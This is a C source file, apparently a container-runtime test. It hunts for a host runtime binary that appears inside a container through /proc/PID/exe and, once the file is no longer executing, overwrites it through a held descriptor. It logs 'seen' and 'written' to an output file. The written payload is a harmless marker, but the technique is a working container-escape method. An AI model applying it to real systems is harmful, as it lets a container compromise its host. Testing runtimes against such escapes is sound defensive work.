/* SPDX-License-Identifier: Apache-2.0 */
/* Who lurks in a container for the runtime's executable: overwrite OUTPUT. Whatever process is not of
 * the container's file, its /proc/PID/exe is opened; then, as soon as nothing executes that file, it is
 * written to. OUTPUT gets a line for each: "seen", and "written". Pids are guessed (pids.h). */
#include "pids.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include <sys/stat.h>

static void tell(const char *file, const char *word)
{
        int fd = open(file, O_WRONLY | O_CREAT | O_APPEND, 0644);

        dprintf(fd, "%s\n", word);
        close(fd);
}

static int is_ours(const struct stat *st, const char *path)
{
        struct stat own;

        return stat(path, &own) == 0 && own.st_ino == st->st_ino && own.st_dev == st->st_dev;
}

/* Through a descriptor that is held, writing is refused only as long as a process executes it. */
static int overwrite(int fd)
{
        char path[64];

        snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
        for (int i = 0; i < 200000; i++) {
                int out = open(path, O_WRONLY | O_APPEND);

                if (out >= 0)
                        return write(out, "overwritten", 11) == 11;
                if (errno != ETXTBSY)
                        return 0;
        }
        return 0;
}

int main(int argc, char **argv)
{
        int next = getpid() + 1;

        if (argc != 2)
                return 2;
        tell(argv[1], "lurking");
        for (;;) {
                next = pids_next(next);
                for (int pid = next; pid < next + AHEAD; pid++) {
                        char path[64];
                        struct stat st;
                        int fd;

                        snprintf(path, sizeof path, "/proc/%d", pid);
                        if (access(path, F_OK) < 0)
                                continue;
                        while (access(path, F_OK) == 0) {
                                char exe[64];

                                snprintf(exe, sizeof exe, "/proc/%d/exe", pid);
                                fd = open(exe, O_PATH);
                                if (fd < 0)
                                        continue;
                                if (fstat(fd, &st) == 0 && !is_ours(&st, "/bin/busybox") &&
                                    !is_ours(&st, "/proc/self/exe")) {
                                        tell(argv[1], "seen");
                                        if (overwrite(fd))
                                                tell(argv[1], "written");
                                        close(fd);
                                        break;
                                }
                                close(fd);
                        }
                        next = pid + 1;
                }
        }
}
